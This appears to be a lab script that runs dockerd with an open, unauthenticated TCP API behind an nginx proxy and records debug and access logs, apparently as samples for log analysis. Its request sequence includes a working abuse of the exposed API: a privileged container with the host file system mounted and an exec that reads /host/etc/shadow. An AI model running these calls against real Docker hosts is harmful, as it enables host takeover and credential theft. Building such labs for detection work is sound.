# The Docker API without TLS: dockerd itself, in debug mode, and an nginx before it that tells the clients' addresses.
#
# folder: containers/docker
# needs: docker.io: dockerd docker
# needs: runc: runc
# needs: nginx: nginx
# needs: iptables: iptables
# needs: curl: curl
# needs: busybox-static: /bin/busybox
# needs: openssl: openssl
# needs: apache2-utils: htpasswd
. /lab/tools.sh
network

# --- dockerd ----------------------------------------------------------------------------------------------------------
mkdir -p /lab/docker
dockerd --debug --host unix:///run/docker.sock --host tcp://0.0.0.0:2375 --data-root /lab/docker \
    --storage-driver vfs --iptables=false --ip6tables=false --bridge=none --exec-opt native.cgroupdriver=cgroupfs \
    > "$OUT/dockerd-debug.log" 2>&1 &
dockerd=$!
wait_for curl -sf http://127.0.0.1:2375/_ping
# An image without a download: one program.
mkdir -p /lab/image/bin
cp /bin/busybox /lab/image/bin/
tar -C /lab/image -c . | docker -H unix:///run/docker.sock import - lab/shell:1 > /lab/import.log

# --- nginx ------------------------------------------------------------------------------------------------------------
certificates /lab/tls gw-lab deployer
htpasswd -bc /lab/users robot $password 2> /dev/null
cat > /lab/nginx.conf <<END
daemon off;
pid /lab/nginx.pid;
error_log $OUT/nginx-error.log info;
events {}
http {
    access_log $OUT/nginx-access.log combined;
    proxy_request_buffering off;
    upstream docker { server 127.0.0.1:2375; }
    server {
        listen 4243;
        listen [::]:4243;
        location / { proxy_pass http://docker; }
    }
    server {
        listen 4244;
        location / { auth_basic docker; auth_basic_user_file /lab/users; proxy_pass http://docker; }
    }
    server {
        listen 4246 ssl;
        ssl_certificate /lab/tls/gw-lab.crt;
        ssl_certificate_key /lab/tls/gw-lab.key;
        ssl_client_certificate /lab/tls/ca.crt;
        ssl_verify_client on;
        location / { proxy_pass http://docker; }
    }
}
END
mkdir -p /var/log/nginx /var/lib/nginx
nginx -c /lab/nginx.conf &
wait_for curl -sf http://127.0.0.1:4243/_ping
LOGS='dockerd-debug.log nginx-access.log nginx-error.log'

# --- what happens -----------------------------------------------------------------------------------------------------
outside=203.0.113.50
# api ADDRESS METHOD PATH [BODY]: through the open port of nginx.
api() {
    in_clients curl -s --max-time 20 --interface "$1" -A "${AGENT:-curl/8.5.0}" -X "$2" \
        -H 'Content-Type: application/json' ${4:+--data "$4"} "http://${SERVER:-203.0.113.1:4243}$3"
}
for path in /version /info /containers/json '/images/json?all=1'; do
    attempt success none - $outside "the API answers anyone: $path" api $outside GET "$path"
done
attempt success none - $outside 'dockerd itself, without a proxy' \
    in_clients curl -s --interface $outside http://203.0.113.1:2375/v1.41/containers/json
AGENT='Docker-Client/20.10.24 (linux)'
create() {
    api $outside POST "/v1.41/containers/create?name=$1" "{\"Image\":\"lab/shell:1\",\"Cmd\":[\"/bin/busybox\",\"sleep\",\"60\"],
        \"HostConfig\":{$2\"NetworkMode\":\"none\",\"Binds\":[\"/:/host\"]}}"
}
attempt success none - $outside 'a privileged container with the file system of the host' \
    create shipit '"Privileged":true,"PidMode":"host",'
attempt other none - $outside 'it is started (where the kernel gives all capabilities)' \
    api $outside POST /v1.41/containers/shipit/start
attempt success none - $outside 'a container with the file system of the host' create ship ''
attempt success none - $outside 'it is started' api $outside POST /v1.41/containers/ship/start
execute() {
    id=$(api $outside POST /v1.41/containers/ship/exec \
        '{"Cmd":["/bin/busybox","cat","/host/etc/shadow"],"AttachStdout":true}' | sed 's/.*"Id":"\([0-9a-f]*\).*/\1/')
    api $outside POST "/v1.41/exec/$id/start" '{"Detach":false,"Tty":false}'
}
attempt success none - $outside 'a command in it' execute
attempt success none - $outside 'it is removed' api $outside DELETE '/v1.41/containers/ship?force=1'
attempt other none - $outside 'an image that cannot be fetched here' \
    api $outside POST '/v1.41/images/create?fromImage=alpine&tag=3'
attempt other none - $outside 'a container that is not there' api $outside GET /v1.41/containers/nothere/json
SERVER='[2001:db8::1]:4243' AGENT=docker-sdk-python/7.1.0
attempt success none - 2001:db8::50 'over IPv6' api 2001:db8::50 GET /v1.41/containers/json?all=1
SERVER= AGENT=
attempt connection - - 192.0.2.20 'TLS at a port without it' \
    in_clients curl -sk --interface 192.0.2.20 https://192.0.2.1:4243/version

basic() { in_clients curl -s --interface "$1" ${2:+-u "$2"} http://10.30.0.1:4244/v1.41/info; }
attempt failure password - 10.30.0.20 'no password where one is asked for' basic 10.30.0.20
attempt failure password robot 10.30.0.20 'a wrong password' basic 10.30.0.20 robot:wrong
attempt failure password nobody 10.30.0.20 'a name that does not exist' basic 10.30.0.20 nobody:wrong
attempt success password robot 10.30.0.20 'the right password' basic 10.30.0.20 robot:$password

mutual() {
    in_clients curl -s --interface "$1" --cacert /lab/tls/ca.crt ${2:+--cert "$2.crt" --key "$2.key"} \
        https://203.0.113.1:4246/v1.41/containers/json
}
certificates /lab/other gw-lab intruder
attempt failure certificate - $outside 'no certificate where one is asked for' mutual $outside
attempt failure certificate - $outside 'a certificate of another authority' mutual $outside /lab/other/intruder
attempt success certificate deployer 203.0.113.66 'a certificate of the right authority' mutual 203.0.113.66 /lab/tls/deployer

# --- the end ----------------------------------------------------------------------------------------------------------
kill $dockerd
wait $dockerd || true
says nginx-access.log success '" 2[0-9][0-9] '
says nginx-access.log failure '" 40[01] '
says dockerd-debug.log success 'Calling '
says nginx-error.log failure 'password mismatch|was not found in|no user/password|client sent no required|client SSL certificate verify'
daemon="Docker $(version docker.io), $(system)"
describe dockerd-debug.log "$daemon" 'dockerd with `--debug` and an open port 2375: calls, without addresses'
describe nginx-access.log "nginx $(version nginx), $(system)" 'the same calls through a proxy: open, with a password, with certificates; combined'
describe nginx-error.log "nginx $(version nginx), $(system)" 'what the proxy says of those that it refused'
finish
